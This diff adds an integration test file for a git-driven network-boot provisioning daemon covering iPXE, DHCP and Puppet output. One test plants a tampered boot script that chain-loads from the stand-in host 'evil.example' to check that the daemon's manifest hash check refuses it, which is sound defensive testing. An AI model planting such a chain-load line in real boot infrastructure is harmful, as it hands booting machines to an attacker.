@@ -1,0 +1,107 @@
+import assert from "node:assert/strict";
+import { readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { after, before, describe, it } from "node:test";
+import { serve, type RunningServer } from "../../../runtime/serve/serve.js";
+import { commitAll, gitCli, repoFromSite } from "../../helpers/git-repo.js";
+import { freshKeystore } from "../../helpers/keystore.js";
+import { fixtures, sampleSite } from "../../helpers/paths.js";
+import { addComputeToSample } from "../../helpers/sample-changes.js";
+import { tempDir } from "../../helpers/temp-dirs.js";
+import { waitFor } from "../../helpers/wait-for.js";
+
+const NEW_MAC = "52:54:00:00:00:99";
+const NEW_FQDN = "cl1-compute-3.cl1.example.com";
+
+describe("oci serve --repo: the daemon follows the repository", () => {
+  let repo: string;
+  let env: string;
+  let server: RunningServer;
+  let base: string;
+
+  before(async () => {
+    repo = await repoFromSite(sampleSite);
+    const work = await tempDir("oci-daemon-");
+    env = join(work, "production");
+    server = await serve({
+      repo, sourceBranch: "main", keystore: (await freshKeystore()).dir, recheckMs: 1_000,
+      puppet: { directory: env, keep: 3, eyamlPrivateKey: join(fixtures, "eyaml/private_key.pkcs7.pem"), eyamlPublicKey: join(fixtures, "eyaml/public_key.pkcs7.pem") },
+      listen: "127.0.0.1", dhcp: false, dhcpPort: 0, tftp: false, tftpPort: 0, httpPort: 0, stateDir: join(work, "state"), bootDirs: [],
+    });
+    base = `http://127.0.0.1:${server.httpPort}`;
+  });
+  after(async () => server?.close());
+
+  const ipxeOf = async (mac: string) => (await fetch(`${base}/ipxe/${mac}`)).text();
+
+  it("at start, compiles the source branch, commits the render and serves it", async () => {
+    const health = await fetch(`${base}/healthz`);
+    assert.equal(health.status, 200);
+    const { release } = (await health.json()) as { release: string };
+    const rendered = (await gitCli(repo, "rev-parse", "oci/rendered")).trim();
+    assert.equal(release, `oci/rendered@${rendered}`);
+    assert.match(await gitCli(repo, "log", "-1", "--format=%B", "oci/rendered"), new RegExp(`Source-Commit: ${(await gitCli(repo, "rev-parse", "main")).trim()}`));
+    assert.match(await ipxeOf("52:54:00:00:00:06"), /cl1-cephmon-1/);
+  });
+
+  it("a commit adding a machine is served (iPXE, DHCP reservation) and published to puppet within 2 s", async () => {
+    const defaultScript = await ipxeOf(NEW_MAC);
+    await addComputeToSample(repo);
+    const started = Date.now();
+    await commitAll(repo, "Add cl1-compute-3");
+    await waitFor("the new machine's iPXE script", async () => (await ipxeOf(NEW_MAC)).includes("cl1-compute-3") || undefined, 10_000);
+    const elapsed = Date.now() - started;
+    assert.notEqual(defaultScript, await ipxeOf(NEW_MAC));
+    assert.ok(server.daemon!.release!.dhcp.reservations.some((r) => r.mac === NEW_MAC && r.hostname === "cl1-compute-3"));
+    assert.match(await readFile(join(env, "data/nodes", `${NEW_FQDN}.yaml`), "utf8"), /oci::node::autosign_token/);
+    assert.match(await readFile(join(env, "enc", `${NEW_FQDN}.yaml`), "utf8"), /oci::role::compute/);
+    assert.ok(elapsed < 2_000, `commit to served took ${elapsed} ms`);
+  });
+
+  it("an invalid commit is refused: the previous release keeps serving and /healthz says why", async () => {
+    const good = (await (await fetch(`${base}/healthz`)).json()) as { release: string };
+    await writeFile(join(repo, "clusters/cl1/machines/cl1-compute-3.yaml"), "apiVersion: oci/v1\nkind: Machine\nhostname: [oops\n");
+    const bad = await commitAll(repo, "Break cl1-compute-3");
+    const health = await waitFor("/healthz to report the refusal", async () => {
+      const response = await fetch(`${base}/healthz`);
+      return response.status === 503 ? ((await response.json()) as { release: string; refused: { commit: string; stage: string; reason: string }[] }) : undefined;
+    });
+    assert.equal(health.release, good.release);
+    assert.equal(health.refused[0]!.commit, bad);
+    assert.equal(health.refused[0]!.stage, "compile");
+    assert.match(health.refused[0]!.reason, /clusters\/cl1\/machines\/cl1-compute-3\.yaml:\d+:\d+/);
+    assert.match(await ipxeOf(NEW_MAC), /cl1-compute-3/);
+    assert.match(await (await fetch(`${base}/metrics`)).text(), /^oci_commits_refused_total\{stage="compile"\} 1$/m);
+
+    await gitCli(repo, "revert", "--no-edit", "HEAD");
+    await waitFor("/healthz to recover", async () => (await fetch(`${base}/healthz`)).status === 200);
+  });
+
+  it("a rendered commit whose files do not match its manifest is refused", async () => {
+    const before = (await (await fetch(`${base}/healthz`)).json()) as { release: string };
+    // Someone commits on the rendered branch by hand: a changed file, manifest untouched.
+    const clone = await tempDir("oci-clone-");
+    await gitCli(clone, "clone", "-q", "-b", "oci/rendered", repo, ".");
+    await writeFile(join(clone, "pxe/boot.ipxe"), "#!ipxe\nchain http://evil.example/\n");
+    await commitAll(clone, "Hand edit");
+    await gitCli(clone, "push", "-q", "origin", "oci/rendered");
+    const health = await waitFor("the refusal", async () => {
+      const response = await fetch(`${base}/healthz`);
+      return response.status === 503 ? ((await response.json()) as { release: string; refused: { stage: string; reason: string }[] }) : undefined;
+    });
+    assert.equal(health.release, before.release);
+    assert.equal(health.refused[0]!.stage, "release");
+    assert.match(health.refused[0]!.reason, /pxe\/boot\.ipxe does not match its hash/);
+    assert.doesNotMatch(await (await fetch(`${base}/boot.ipxe`)).text(), /evil/);
+  });
+
+  it("records status reports durably, and refuses discoveries when the source branch is checked out in a work tree", async () => {
+    const status = await fetch(`${base}/api/v1/status`, { method: "POST", body: JSON.stringify({ serial: "CZ300006", status: "puppet-success" }) });
+    assert.deepEqual(await status.json(), { accepted: "CZ300006", outcome: "recorded" });
+    assert.match(await (await fetch(`${base}/metrics`)).text(), /^oci_machines\{status="puppet-success"\} 1$/m);
+    const discovery = await fetch(`${base}/api/v1/discovery`, { method: "POST", body: JSON.stringify({ serial: "ZZ1", nics: [{ name: "eno1", mac: "52:54:00:aa:00:01" }] }) });
+    assert.equal(discovery.status, 503);
+    assert.match(((await discovery.json()) as { error: string }).error, /checked out in a work tree.*bare repository/);
+    assert.doesNotMatch(await gitCli(repo, "log", "--format=%s", "main"), /Inventory/);
+  });
+});
